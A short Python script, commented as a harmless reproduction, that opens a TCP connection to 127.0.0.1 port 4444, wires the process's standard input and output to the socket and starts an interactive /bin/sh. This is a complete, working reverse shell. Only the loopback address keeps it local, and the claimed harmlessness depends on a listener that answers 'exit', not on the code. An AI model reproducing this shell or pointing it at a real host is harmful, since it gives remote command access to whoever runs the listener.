# Harmless reproduction of a reverse shell: the loopback listener answers
# "exit", so the shell ends at once.
import os, socket
s = socket.create_connection(("127.0.0.1", 4444), timeout=3)
s.settimeout(None)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["/bin/sh", "-i"])
